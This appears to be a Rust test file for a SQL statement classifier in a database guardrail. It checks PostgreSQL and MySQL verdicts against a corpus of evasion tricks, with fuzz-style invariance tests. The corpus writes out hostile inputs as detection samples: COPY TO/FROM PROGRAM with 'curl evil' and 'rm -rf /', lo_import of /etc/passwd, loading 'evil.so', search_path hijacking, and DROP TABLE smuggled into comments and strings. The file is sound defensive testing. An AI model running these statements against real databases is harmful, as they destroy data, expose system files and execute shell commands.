@@ -1,1 +1,295 @@
+//! The classifier against a corpus of statements with known verdicts, every trick
+//! of the guardrails issue included, plus invariance properties.
 
+use super::*;
+
+/// Flags as letters: `u` unbounded, `w` writes, `o` opaque, `r` redirects.
+fn flags(s: &Statement) -> String {
+    let f = s.flags;
+    [(f.unbounded, 'u'), (f.writes, 'w'), (f.opaque, 'o'), (f.redirects, 'r')]
+        .iter()
+        .filter(|(on, _)| *on)
+        .map(|(_, c)| *c)
+        .collect()
+}
+
+fn verdicts(sql: &str, d: Dialect) -> Vec<(String, String)> {
+    classify(sql.as_bytes(), d)
+        .iter()
+        .map(|s| (s.kind.as_str().to_owned(), flags(s)))
+        .collect()
+}
+
+/// `(sql, "kind flags; kind flags")` for PostgreSQL.
+const PG: &[(&str, &str)] = &[
+    // Plain reads.
+    ("SELECT 1", "select"),
+    ("select * from orders where id = $1", "select"),
+    ("  \n\tSELECT\n1  ", "select"),
+    ("(SELECT 1) UNION (SELECT 2)", "select"),
+    ("VALUES (1), (2)", "select"),
+    ("TABLE orders", "select"),
+    ("SELECT * FROM orders FOR UPDATE", "select"),
+    ("SELECT * FROM orders FOR NO KEY UPDATE SKIP LOCKED", "select"),
+    ("WITH x AS (SELECT 1) SELECT * FROM x", "select"),
+    ("WITH RECURSIVE t(n) AS (VALUES (1) UNION ALL SELECT n+1 FROM t WHERE n < 5) SELECT * FROM t", "select"),
+    ("SELECT count(*) FROM (SELECT * FROM orders) sub", "select"),
+    ("SELECT 'DELETE FROM orders'", "select"),
+    ("SELECT $$DROP TABLE orders$$", "select"),
+    ("SELECT $tag$ ; DROP TABLE orders; $tag$", "select"),
+    ("SELECT \"delete\" FROM \"drop\"", "select"),
+    ("SELECT 1 -- ; DROP TABLE orders", "select"),
+    ("SELECT 1 /* ; DROP TABLE orders */", "select"),
+    ("SELECT 1 /* nested /* ; DROP TABLE t */ still comment */", "select"),
+    ("SELECT E'\\'; DROP TABLE orders; --'", "select"),
+    ("SELECT 'it''s; DROP TABLE t'", "select"),
+    ("SELECT U&'d\\0061t\\+000061'", "select"),
+    ("SELECT U&\"d;rop\" FROM t", "select"),
+    ("SELECT U&'!0061' UESCAPE '!'", "select"),
+    ("SELECT a$$b FROM t", "select"),
+    ("SELECT x'DEAD', b'1010', n'text'", "select"),
+    ("SELECT 1.5e10, .5, 0x1F", "select"),
+    ("SHOW search_path", "show"),
+    ("EXPLAIN SELECT 1", "explain"),
+    ("EXPLAIN DELETE FROM orders", "explain"),
+    ("explain (costs off) update orders set x = 1", "explain"),
+    // Writes.
+    ("INSERT INTO orders VALUES (1)", "insert w"),
+    ("INSERT INTO orders SELECT * FROM staging", "insert w"),
+    ("INSERT INTO t VALUES (1) ON CONFLICT (id) DO UPDATE SET v = 2", "insert w"),
+    ("UPDATE orders SET paid = true WHERE id = 1", "update w"),
+    ("UPDATE orders SET paid = true", "update uw"),
+    ("update orders set note = (select note from x where y = 1)", "update uw"),
+    ("UPDATE orders SET paid = true WHERE CURRENT OF c", "update w"),
+    ("DELETE FROM orders WHERE id = 1", "delete w"),
+    ("DELETE FROM orders", "delete uw"),
+    ("delete from orders using customers", "delete uw"),
+    ("DeLeTe FrOm orders", "delete uw"),
+    ("DELETE/**/FROM orders", "delete uw"),
+    ("MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN DELETE", "merge w"),
+    // Hidden writes: the most dangerous kind anywhere wins.
+    ("WITH x AS (DELETE FROM orders RETURNING *) SELECT * FROM x", "delete uw"),
+    ("WITH x AS (DELETE FROM orders WHERE id = 1 RETURNING *) SELECT * FROM x", "delete w"),
+    ("WITH x AS (UPDATE t SET a = 1 RETURNING *) SELECT 1", "update uw"),
+    ("WITH x AS (INSERT INTO t VALUES (1) RETURNING id) SELECT * FROM x", "insert w"),
+    ("WITH a AS (SELECT 1), b AS (DELETE FROM t WHERE x RETURNING 1) SELECT * FROM a, b", "delete w"),
+    ("WITH x AS (SELECT 1) DELETE FROM orders", "delete uw"),
+    ("WITH x AS (SELECT id FROM t) UPDATE orders SET a = 1 WHERE id IN (SELECT id FROM x)", "update w"),
+    ("WITH x AS NOT MATERIALIZED (DELETE FROM t RETURNING 1) SELECT 1", "delete uw"),
+    ("EXPLAIN ANALYZE DELETE FROM orders", "delete uw"),
+    ("EXPLAIN (ANALYZE, BUFFERS) UPDATE orders SET a = 1 WHERE id = 2", "update w"),
+    ("explain analyse select 1", "explain"),
+    ("SELECT * INTO backup FROM orders", "create w"),
+    ("WITH x AS (SELECT 1) SELECT * INTO t2 FROM x", "create w"),
+    ("CREATE TABLE t2 AS SELECT * FROM orders", "create w"),
+    ("COPY (DELETE FROM orders RETURNING *) TO STDOUT", "delete uw"),
+    ("COPY orders TO STDOUT", "copy"),
+    ("COPY orders FROM STDIN", "copy w"),
+    ("COPY orders TO PROGRAM 'curl evil'", "copy o"),
+    ("COPY orders FROM PROGRAM 'rm -rf /'", "copy wo"),
+    ("PREPARE p AS DELETE FROM orders", "delete uw"),
+    ("PREPARE p (int) AS SELECT * FROM orders WHERE id = $1", "prepare"),
+    ("DECLARE c CURSOR FOR SELECT * FROM orders", "select"),
+    // DDL and privileges.
+    ("CREATE TABLE t (id int)", "create w"),
+    ("CREATE INDEX CONCURRENTLY i ON t (a)", "create w"),
+    ("CREATE FUNCTION f() RETURNS int LANGUAGE sql AS $$ DELETE FROM t; SELECT 1 $$", "create w"),
+    ("ALTER TABLE orders ADD COLUMN x int", "alter w"),
+    ("ALTER SYSTEM SET fsync = off", "alter wo"),
+    ("DROP TABLE orders", "drop w"),
+    ("drop table if exists orders cascade", "drop w"),
+    ("DROP/* hi */TABLE orders", "drop w"),
+    ("TRUNCATE orders", "truncate w"),
+    ("GRANT SELECT ON orders TO public", "grant w"),
+    ("REVOKE ALL ON orders FROM bob", "revoke w"),
+    ("REFRESH MATERIALIZED VIEW mv", "alter w"),
+    // Sessions and transactions.
+    ("BEGIN", "begin"),
+    ("START TRANSACTION ISOLATION LEVEL SERIALIZABLE", "begin"),
+    ("SAVEPOINT a", "begin"),
+    ("COMMIT", "commit"),
+    ("END", "commit"),
+    ("RELEASE SAVEPOINT a", "commit"),
+    ("ROLLBACK", "rollback"),
+    ("ROLLBACK TO SAVEPOINT a", "rollback"),
+    ("ABORT", "rollback"),
+    ("PREPARE TRANSACTION 'x'", "commit"),
+    ("SET statement_timeout = 0", "set"),
+    ("SET search_path = evil, public", "set r"),
+    ("set SESSION search_path to evil", "set r"),
+    ("SET LOCAL search_path = x", "set r"),
+    ("SET ROLE admin", "set r"),
+    ("SET SESSION AUTHORIZATION postgres", "set r"),
+    ("SET SCHEMA 'evil'", "set r"),
+    ("SET TRANSACTION READ ONLY", "set"),
+    ("RESET ROLE", "set"),
+    ("SELECT set_config('search_path', 'evil', false)", "select wor"),
+    ("SELECT pg_catalog.set_config('role', 'x', true)", "select wor"),
+    ("DEALLOCATE ALL", "deallocate"),
+    ("DISCARD ALL", "other w"),
+    ("LISTEN jobs", "listen"),
+    ("UNLISTEN *", "listen"),
+    ("NOTIFY jobs, 'x'", "notify"),
+    ("LOCK TABLE orders IN ACCESS EXCLUSIVE MODE", "lock"),
+    ("VACUUM ANALYZE orders", "vacuum w"),
+    ("ANALYZE orders", "vacuum w"),
+    ("CHECKPOINT", "vacuum w"),
+    // Code the gateway cannot see.
+    ("DO $$ BEGIN EXECUTE 'DROP TABLE orders'; END $$", "do wo"),
+    ("EXECUTE p", "execute wo"),
+    ("CALL cleanup()", "call wo"),
+    ("SELECT dblink_exec('dbname=x', 'DROP TABLE t')", "select wo"),
+    ("SELECT * FROM dblink('x', 'select 1') AS t(a int)", "select wo"),
+    ("SELECT query_to_xml('delete from t', true, true, '')", "select wo"),
+    ("SELECT lo_import('/etc/passwd')", "select wo"),
+    ("SELECT \"set_config\"('search_path', 'x', false)", "select wor"),
+    ("SELECT nextval('s')", "select wo"),
+    ("LOAD 'evil.so'", "other wo"),
+    ("FROBNICATE everything", "other wo"),
+    ("SELECT 'unterminated", "other wo"),
+    ("SELECT 1 /* unterminated", "other wo"),
+    ("SELECT $x$ unterminated", "other wo"),
+    ("SELECT \"unterminated", "other wo"),
+    ("42", "other wo"),
+    // standard_conforming_strings ambiguity: backslash-quote could end the string.
+    ("SELECT 'a\\'; DROP TABLE orders; --'", "other wo"),
+    // Multiple statements are judged one by one.
+    ("SELECT 1; DROP TABLE orders", "select; drop w"),
+    ("SELECT 1;;; SELECT 2;", "select; select"),
+    ("BEGIN; DELETE FROM orders WHERE id = 1; COMMIT", "begin; delete w; commit"),
+    ("SELECT ';'; DELETE FROM t", "select; delete uw"),
+    ("/* only a comment */", ""),
+    ("", ""),
+    (";", ""),
+];
+
+/// MySQL dialect specifics.
+const MY: &[(&str, &str)] = &[
+    ("SELECT 1", "select"),
+    ("SELECT `delete` FROM `drop`", "select"),
+    ("SELECT 1 # ; DROP TABLE t", "select"),
+    ("SELECT 1 -- ; DROP TABLE t", "select"),
+    ("SELECT 1 --1; DROP TABLE t", "select; drop w"),
+    ("SELECT 'a\\'; DROP TABLE t; -- '", "select"),
+    ("SELECT \"a\\\"; DROP TABLE t\"", "select"),
+    ("SELECT 1 /*! ; DROP TABLE t */", "select; drop w"),
+    ("/*!50000 DROP TABLE t */", "drop w"),
+    ("SELECT /*+ MAX_EXECUTION_TIME(1) */ 1", "select"),
+    ("REPLACE INTO t VALUES (1)", "insert w"),
+    ("DELETE FROM t", "delete uw"),
+    ("UPDATE t SET a = 1 WHERE id = ?", "update w"),
+    ("USE otherdb", "set r"),
+    ("SELECT * FROM t INTO OUTFILE '/tmp/x'", "select wo"),
+    ("PREPARE s FROM @sql", "prepare o"),
+    ("DESCRIBE t", "explain"),
+    ("SELECT SLEEP(10)", "select wo"),
+];
+
+fn expected(s: &str) -> Vec<(String, String)> {
+    if s.is_empty() {
+        return Vec::new();
+    }
+    s.split("; ")
+        .map(|v| {
+            let mut it = v.split(' ');
+            let kind = it.next().unwrap().to_owned();
+            (kind, it.next().unwrap_or("").to_owned())
+        })
+        .collect()
+}
+
+#[test]
+fn postgres_corpus() {
+    let mut failures = Vec::new();
+    for (sql, want) in PG {
+        let got = verdicts(sql, Dialect::Postgres);
+        if got != expected(want) {
+            failures.push(format!("{sql:?}: got {got:?}, want {want:?}"));
+        }
+    }
+    assert!(failures.is_empty(), "{} of {} wrong:\n{}", failures.len(), PG.len(), failures.join("\n"));
+}
+
+#[test]
+fn mysql_corpus() {
+    let mut failures = Vec::new();
+    for (sql, want) in MY {
+        let got = verdicts(sql, Dialect::Mysql);
+        if got != expected(want) {
+            failures.push(format!("{sql:?}: got {got:?}, want {want:?}"));
+        }
+    }
+    assert!(failures.is_empty(), "{} of {} wrong:\n{}", failures.len(), MY.len(), failures.join("\n"));
+}
+
+/// Deterministic xorshift for the property tests (no external RNG).
+struct Rng(u64);
+impl Rng {
+    fn next(&mut self) -> u64 {
+        self.0 ^= self.0 << 13;
+        self.0 ^= self.0 >> 7;
+        self.0 ^= self.0 << 17;
+        self.0
+    }
+    fn pick<'a>(&mut self, xs: &[&'a str]) -> &'a str {
+        xs[(self.next() % xs.len() as u64) as usize]
+    }
+}
+
+/// Rewrites the whitespace between tokens with random whitespace and comments
+/// and flips the case of keywords; the verdict must not change.
+fn disguise(sql: &str, rng: &mut Rng) -> String {
+    let mut toks = Vec::new();
+    lexer::lex(sql.as_bytes(), lexer::Options::new(Dialect::Postgres), &mut toks).unwrap();
+    let fillers = [" ", "\n", "\t ", " /* c */ ", "/**/", " -- line\n", " /* /* nested */ */ "];
+    let mut out = String::new();
+    for (i, t) in toks.iter().enumerate() {
+        if i > 0 {
+            out.push_str(rng.pick(&fillers));
+        }
+        let text = &sql[t.range()];
+        if t.kind == lexer::TokenKind::Word {
+            for c in text.chars() {
+                if rng.next() % 2 == 0 {
+                    out.extend(c.to_uppercase());
+                } else {
+                    out.extend(c.to_lowercase());
+                }
+            }
+        } else {
+            out.push_str(text);
+        }
+    }
+    out
+}
+
+#[test]
+fn comments_whitespace_and_case_never_change_the_verdict() {
+    let mut rng = Rng(0x5eed_1234_abcd);
+    for (sql, _) in PG {
+        let mut toks = Vec::new();
+        if lexer::lex(sql.as_bytes(), lexer::Options::new(Dialect::Postgres), &mut toks).is_err() || sql.contains('\\') {
+            continue;
+        }
+        // Quoted identifiers keep their case; only words are flipped.
+        let base = verdicts(sql, Dialect::Postgres);
+        for _ in 0..20 {
+            let d = disguise(sql, &mut rng);
+            assert_eq!(verdicts(&d, Dialect::Postgres), base, "{sql:?} disguised as {d:?}");
+        }
+    }
+}
+
+#[test]
+fn lexer_is_total_on_every_prefix() {
+    // Every prefix of every corpus entry lexes or errors; it never panics, and
+    // the classifier always yields a verdict per non-empty statement.
+    for (sql, _) in PG.iter().chain(MY) {
+        for cut in 0..=sql.len() {
+            let Some(prefix) = sql.get(..cut) else { continue };
+            for d in [Dialect::Postgres, Dialect::Mysql] {
+                let _ = classify(prefix.as_bytes(), d);
+            }
+        }
+    }
+}
